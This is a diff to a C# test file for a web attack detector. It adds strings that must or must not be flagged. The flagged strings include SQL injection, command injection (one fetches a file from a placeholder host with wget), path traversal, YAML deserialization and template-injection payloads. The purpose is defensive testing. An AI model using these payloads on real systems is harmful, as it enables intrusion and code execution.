@@ -31,6 +31,8 @@ public sealed class DetectorTables
     [InlineData("8) and (3)=(3")]
     [InlineData("' or x=x")]
     [InlineData("1' and sleep(5)#")]
+    [InlineData("1<2 or 3>2 union all select 1")]
+    [InlineData("1 and 3>2")]
     public void Sql_injection(string text) => IsAttack("sql-injection", text);
 
     [Theory]
@@ -45,6 +47,8 @@ public sealed class DetectorTables
     [InlineData("Rock'n'roll or jazz = good music")]
     [InlineData("'alpha' => 1,")]
     [InlineData("run 'make' and select the new locale")]
+    [InlineData("1 < 2 and 3 > 2")]
+    [InlineData("union select")]
     public void Not_sql_injection(string text) => IsNotAttack(text);
 
     [Theory]
@@ -56,6 +60,8 @@ public sealed class DetectorTables
     [InlineData("c'a't</etc/passwd; w\\hoami;")]
     [InlineData("() { ignored; }; echo vulnerable")]
     [InlineData("print(`echo A\necho $((1+1))`);")]
+    [InlineData("a;{wget,http://files.example/x}")]
+    [InlineData("x`id -u`; ls -la `")]
     public void Command_injection(string text) => IsAttack("command-injection", text);
 
     [Theory]
@@ -67,6 +73,11 @@ public sealed class DetectorTables
     [InlineData("npm run build && node dist/index.js")]
     [InlineData("salt & pepper; time to find the best")]
     [InlineData("a=1&sort=2&find=3")]
+    [InlineData("data:image/png;base64,iVBORw0KGgo=")]
+    [InlineData("Use `rm -rf node_modules; npm i` to start over; see the manual.")]
+    [InlineData("Dear team,\n\nplease run `systemctl restart nginx; tail -f /var/log/nginx/error.log` and tell me.")]
+    [InlineData("#!/bin/bash\nset -e\nnpm ci\nnpm test\n")]
+    [InlineData("FROM node:20\nRUN apt-get update && apt-get install -y curl; rm -rf /var/lib/apt\n")]
     public void Not_command_injection(string text) => IsNotAttack(text);
 
     [Theory]
@@ -78,6 +89,8 @@ public sealed class DetectorTables
     [InlineData(".%00./.%00./etc/issue")]
     [InlineData("/proc/self/environ")]
     [InlineData("0x2e0x2e%u2216boot.ini")]
+    [InlineData("../index.js")]
+    [InlineData("../../../logo.png")]
     public void Path_traversal(string text) => IsAttack("path-traversal", text);
 
     [Theory]
@@ -88,6 +101,8 @@ public sealed class DetectorTables
     [InlineData("https://shop.example/a/b/c?x=1&y=2&z=..")]
     [InlineData("file.tar..gz")]
     [InlineData("import x from '../lib/x'")]
+    [InlineData("../relative/link.html")]
+    [InlineData("../../assets/logo.png?v=2")]
     public void Not_path_traversal(string text) => IsNotAttack(text);
 
     [Theory]
@@ -108,6 +123,13 @@ public sealed class DetectorTables
     [InlineData("ldap-injection", "*)(uid=*))(|(uid=*")]
     [InlineData("nosql-injection", "true, $where: '99 == 88'")]
     [InlineData("scanner", "sqlmap/1.7.4#stable (https://sqlmap.org)")]
+    [InlineData("deserialization", "f: !!js/function 'function(){return process.pid}'")]
+    [InlineData("deserialization", "!<tag:yaml.org,2002:js/function> 'function(){return 1}'")]
+    [InlineData("deserialization", "{\"a\":\"_CRYO_FUNCTION_function () { return 1 }\"}")]
+    [InlineData("template-injection", "{{range.constructor('return process.pid')()}}")]
+    [InlineData("template-injection", "{% set f = range['const'+'ructor'] %}{{ f('return 1')() }}")]
+    [InlineData("template-injection", "<% print(process.env.HOME) %>")]
+    [InlineData("template-injection", "#{process.pid}")]
     public void Other_attacks(string detector, string text) => IsAttack(detector, text);
 
     [Theory]
@@ -149,6 +171,10 @@ public sealed class DetectorTables
     [InlineData("we pay in $ne and $gt are operators of the database, see the manual for how $where: is used in a longer article")]
     [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36")]
     [InlineData("AKIA rO0 is the name of a plane")]
+    [InlineData("os.system(cmd) is deprecated, use subprocess.run instead")]
+    [InlineData("const {exec} = require('child_process'); // how do I use it in a loop?")]
+    [InlineData("the port is `${process.env.PORT}` by default")]
+    [InlineData("{{process}} takes {{ order.constructor_name }}")]
     public void Other_texts(string text) => IsNotAttack(text);
 
     [Theory]
